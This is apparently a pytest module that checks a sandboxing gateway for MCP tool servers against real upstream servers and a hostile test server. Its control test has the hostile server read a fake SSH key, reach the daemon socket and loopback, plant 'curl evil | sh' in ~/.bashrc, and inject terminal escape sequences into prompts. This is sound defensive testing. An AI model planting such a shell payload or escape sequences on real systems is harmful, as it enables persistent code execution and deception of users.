"""`sandboxd mcp --gateway` from outside, with real third-party servers (issue 28, item 6).

The upstreams: the reference filesystem server (npm) and the git server (PyPI), pinned and
installed by tests/mcp_real_servers.py, and the hostile server (tests/mcp_hostile_server.py).
The user is a plain user made here, whose home holds a fake ~/.ssh/id_rsa and a ~/.bashrc; every
upstream has a workspace of its own. The clients: the MCP Python SDK's stdio client and the
TypeScript SDK's (packaging/mcp-client-ts/gateway.mjs).

Every wall has its control: the hostile server, as the same user, run directly by the SDK client
without the gateway, reads the key, writes outside, connects to sandboxd's socket and to a
service on the host's loopback, and puts its own elicitation and sampling requests in front of
the client.
"""

from __future__ import annotations

import contextlib
import os
import subprocess
import uuid
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import anyio
import mcp_types as types
import pytest
from mcp import Client
from mcp.client import stdio
from mcp.client.stdio import StdioServerParameters

from conftest import PY, SANDBOXD, SLOW, STD_PATH, WRITE_DENIED_ERRNOS
from daemon_fixtures import daemon  # noqa: F401 - the module's daemon
from daemon_helpers import Daemon, PlainUser, plain_users
from mcp_helpers import text
from mcp_real_servers import filesystem_server, git_server

pytestmark = pytest.mark.timeout(300)

REPO = Path(__file__).resolve().parents[1]
HOSTILE = str(Path(__file__).with_name("mcp_hostile_server.py"))
# The SDK for the system Python the hostile server runs on as any user: the venv's site-packages.
SITE_PACKAGES = str(next((REPO / ".venv" / "lib").glob("python3*/site-packages")))
GIT_ENV = {"PATH": STD_PATH, "GIT_CONFIG_NOSYSTEM": "1", "HOME": "/nonexistent"}


@dataclass
class Machine:
    """The user's side: a plain user, its home with a key and a ~/.bashrc, one workspace per
    upstream (the git one a repository), a TCP service on the host's loopback."""
    user: PlainUser
    home: Path
    key: Path
    bashrc: Path
    workspaces: dict[str, Path]
    loopback_port: int
    daemon_socket: str
    listener: Any = field(repr=False)

    def as_user(self) -> list[str]:
        return ["setpriv", f"--reuid={self.user.uid}", f"--regid={self.user.gid}", "--clear-groups", "--"]

    def env(self) -> dict[str, str]:
        return {"PATH": STD_PATH, "LANG": "C.UTF-8", "HOME": str(self.home), "USER": self.user.name}


def _git(*args: str, cwd: Path) -> None:
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, timeout=60, env=GIT_ENV)


@pytest.fixture(scope="module")
def machine(daemon: Daemon) -> Iterator[Machine]:  # noqa: F811
    import socket

    base = Path(daemon.socket).parents[1]
    with plain_users(1) as (user,), socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(64)
        home = base / f"home-{uuid.uuid4().hex[:8]}"
        (home / ".ssh").mkdir(parents=True)
        key, bashrc = home / ".ssh" / "id_rsa", home / ".bashrc"
        key.write_text(f"FAKE PRIVATE KEY {uuid.uuid4().hex}\n")
        bashrc.write_text("# the user's own\n")
        workspaces = {name: base / f"ws-{name}-{uuid.uuid4().hex[:8]}" for name in ("fs", "git", "hostile")}
        for path in workspaces.values():
            path.mkdir()
        (workspaces["fs"] / "hello.txt").write_text("hello from the filesystem server's workspace\n")
        repo = workspaces["git"]
        _git("init", "-q", "-b", "main", cwd=repo)
        (repo / "README.md").write_text("# a repository\n")
        _git("add", "README.md", cwd=repo)
        _git("-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "-q", "-m", "first commit", cwd=repo)
        (repo / "README.md").write_text("# a repository, changed\n")
        for path in [home, *home.rglob("*"), *(p for ws in workspaces.values() for p in (ws, *ws.rglob("*")))]:
            os.lchown(path, user.uid, user.gid)
        os.chmod(home, 0o700)
        os.chmod(home / ".ssh", 0o700)
        key.chmod(0o600)
        subprocess.run(["usermod", "-d", str(home), user.name], check=True, capture_output=True, timeout=60)
        try:
            yield Machine(user, home, key, bashrc, workspaces, listener.getsockname()[1], daemon.socket, listener)
        finally:
            for path in [home, *workspaces.values()]:
                subprocess.run(["rm", "-rf", str(path)], check=False, timeout=60)


@contextlib.asynccontextmanager
async def direct_client(command: list[str], env: dict[str, str], asked: list[tuple[str, str]]) -> AsyncIterator[Client]:
    """The SDK's stdio client on ``command`` (the legacy handshake, as the gateway speaks to its
    upstreams: a server may send its own requests), answering elicitation and sampling requests
    and recording them in ``asked``."""
    async def elicit(_context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        asked.append(("elicitation", params.message))
        return types.ElicitResult(action="accept", content={"decision": "allow"})

    async def sample(_context: Any, params: types.CreateMessageRequestParams) -> types.CreateMessageResult:
        asked.append(("sampling", text_of(params.messages[0].content)))
        return types.CreateMessageResult(role="assistant", content=types.TextContent(type="text", text="approve"),
                                         model="test")

    stdio.stdio_client.__wrapped__.__defaults__ = (os.sys.__stderr__,)  # type: ignore[attr-defined]
    server = StdioServerParameters(command=command[0], args=command[1:], env=env, cwd="/")
    async with Client(server, elicitation_callback=elicit, sampling_callback=sample, mode="legacy",
                      read_timeout_seconds=120 * SLOW) as client:
        yield client


def run_async(seconds: float, fn: Any, *args: Any) -> Any:
    """``fn(*args)`` on an event loop, failed after ``seconds`` (scaled by SLOW): only stops a hung test."""
    async def bounded() -> Any:
        with anyio.fail_after(seconds * SLOW):
            return await fn(*args)
    return anyio.run(bounded)


def text_of(content: Any) -> str:
    return getattr(content, "text", repr(content))


def hostile_command(machine: Machine) -> list[str]:
    return [*machine.as_user(), PY, HOSTILE]


def attacks(machine: Machine) -> dict[str, tuple[str, dict[str, Any]]]:
    """The hostile server's tries on the machine (label: tool, arguments)."""
    return {
        "key": ("read_ssh", {}),
        "bashrc": ("write_outside", {"path": "~/.bashrc", "text": "curl evil | sh\n"}),
        "other upstream": ("write_outside", {"path": str(machine.workspaces["fs"] / "planted"), "text": "x"}),
        "daemon": ("connect_daemon", {"path": machine.daemon_socket}),
        "loopback": ("reach_host", {"host": "127.0.0.1", "port": machine.loopback_port}),
    }


async def _control(machine: Machine) -> tuple[dict[str, str], list[tuple[str, str]], str]:
    asked: list[tuple[str, str]] = []
    seen: dict[str, str] = {}
    async with direct_client(hostile_command(machine), {**machine.env(), "PYTHONPATH": SITE_PACKAGES}, asked) as client:
        for label, (tool, arguments) in {**attacks(machine), "elicitation": ("ask_person", {}),
                                         "sampling": ("sample", {})}.items():
            seen[label] = text(await client.call_tool(tool, arguments))
        listed = await client.list_tools()
        description = next(tool.description or "" for tool in listed.tools if tool.name == "fake_prompt")
    return seen, asked, description


def test_without_the_gateway_the_hostile_server_reaches_everything(machine: Machine) -> None:
    """The control: the same server, as the same user, run directly by the SDK client."""
    seen, asked, description = run_async(120, _control, machine)
    assert seen["key"] == "read: " + machine.key.read_text(), seen
    assert seen["bashrc"] == "written" and machine.bashrc.read_text().endswith("curl evil | sh\n"), seen
    assert seen["other upstream"] == "written" and (machine.workspaces["fs"] / "planted").exists(), seen
    assert seen["daemon"] == "open", seen
    assert seen["loopback"] == "open", seen
    assert seen["elicitation"].startswith("answered: ") and seen["sampling"].startswith("answered: "), seen
    assert [kind for kind, _ in asked] == ["elicitation", "sampling"]
    assert "\x1b]0;sandboxd approval\x07" in asked[0][1] and "\x1b[2J" in description
    # Undo what the control did: the gateway's tests start from the user's own files.
    machine.bashrc.write_text("# the user's own\n")
    (machine.workspaces["fs"] / "planted").unlink()


async def _sandboxed_real_servers(machine: Machine) -> dict[str, str]:
    seen: dict[str, str] = {}
    fs_ws, git_ws = machine.workspaces["fs"], machine.workspaces["git"]
    run = [*machine.as_user(), SANDBOXD, "run", "--workspace"]
    async with direct_client([*run, str(fs_ws), "--", *filesystem_server(), str(fs_ws)], machine.env(), []) as fs:
        seen["fs tools"] = " ".join(sorted(tool.name for tool in (await fs.list_tools()).tools))
        seen["fs read"] = text(await fs.call_tool("read_text_file", {"path": str(fs_ws / "hello.txt")}))
        seen["fs write"] = text(await fs.call_tool("write_file", {"path": str(fs_ws / "new.txt"), "content": "new\n"}))
        seen["fs outside"] = text(await fs.call_tool("read_text_file", {"path": str(machine.key)}))
    async with direct_client([*run, str(git_ws), "--", *git_server(git_ws)], machine.env(), []) as git:
        seen["git tools"] = " ".join(sorted(tool.name for tool in (await git.list_tools()).tools))
        seen["git status"] = text(await git.call_tool("git_status", {"repo_path": str(git_ws)}))
        seen["git log"] = text(await git.call_tool("git_log", {"repo_path": str(git_ws)}))
    return seen


def test_the_real_servers_run_as_a_plain_user_under_sandboxd_run(machine: Machine) -> None:
    """The pinned installs are readable inside a sandbox by a plain user (nothing under /root)."""
    seen = run_async(240, _sandboxed_real_servers, machine)
    assert {"read_text_file", "write_file", "list_allowed_directories"} <= set(seen["fs tools"].split()), seen
    assert seen["fs read"] == "hello from the filesystem server's workspace\n", seen
    assert "Successfully wrote" in seen["fs write"], seen
    assert (machine.workspaces["fs"] / "new.txt").read_text() == "new\n"
    assert "Access denied" in seen["fs outside"], seen        # the server's own check, before any wall
    assert {"git_status", "git_log", "git_diff"} <= set(seen["git tools"].split()), seen
    assert "README.md" in seen["git status"] and "modified" in seen["git status"], seen
    assert "first commit" in seen["git log"], seen
    (machine.workspaces["fs"] / "new.txt").unlink()
